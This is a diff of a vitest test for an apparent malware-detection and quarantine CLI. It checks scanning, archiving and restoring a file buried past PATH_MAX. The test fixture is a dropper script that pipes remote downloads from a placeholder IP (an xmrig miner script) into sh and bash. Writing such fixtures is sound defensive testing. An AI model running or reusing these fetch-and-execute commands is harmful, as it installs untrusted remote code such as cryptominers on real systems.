@@ -2,7 +2,7 @@
 // opens by name). `scan --path` finds it by its full path; `respond --apply` with that finding's
 // steps selected archives it (the archive's manifest holds its full path and sha256, 7z lists it)
 // and removes it; `undo` puts it back byte-identical. Everything happens in a temporary directory.
-import { execFile, execFileSync } from 'node:child_process';
+import { execFile } from 'node:child_process';
 import { mkdtempSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -10,40 +10,25 @@ import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readQuarantine, type Manifest } from '../../src/respond/quarantine.js';
 import { ensureBuilt, runCli, runCliJson } from '../helpers/cli.js';
+import { inDeep, makeDeep, removeDeep } from '../helpers/deep-tree.js';
 
 const execFileP = promisify(execFile);
-const NAME = 'd'.repeat(200);
 const DROPPER =
   '#!/bin/sh\ncurl -fsSL http://203.0.113.7/xmrig.sh | sh\nwget -q -O- http://203.0.113.7/x | bash\n';
 let dir: string;
 let tree: string;
 let full: string;
 
-/** The shell that walks down the tree (cd -P: a logical cd names the full path) and runs `command`. */
-function inDeepest(command: string): string {
-  return execFileSync(
-    'sh',
-    ['-c', `cd "$1" && for i in $(seq 30); do cd -P "$2"; done && ${command}`, 'sh', tree, NAME],
-    { encoding: 'utf8' },
-  );
-}
+/** Runs `command` in the tree's deepest directory; its stdout. */
+const inDeepest = (command: string): string => inDeep(tree, 30, command);
 
 beforeAll(async () => {
   await ensureBuilt();
   dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-respond-deep-'));
   tree = path.join(dir, 'tree');
-  execFileSync('sh', [
-    '-c',
-    'mkdir "$1" && cd "$1" && for i in $(seq 30); do mkdir "$2" && cd -P "$2"; done && printf %s "$3" > drop.sh',
-    'sh',
-    tree,
-    NAME,
-    DROPPER,
-  ]);
-  full = `${tree}/${`${NAME}/`.repeat(30)}drop.sh`;
+  full = makeDeep(tree, 30, 'drop.sh', DROPPER);
 }, 120_000);
-// Node's rm walks by full paths, which fail past PATH_MAX; rm(1) does not.
-afterAll(() => execFileSync('rm', ['-rf', dir]));
+afterAll(() => removeDeep(dir));
 
 describe('respond on a file past PATH_MAX', () => {
   it('archives and removes the file the scan found, and undo puts it back', async () => {
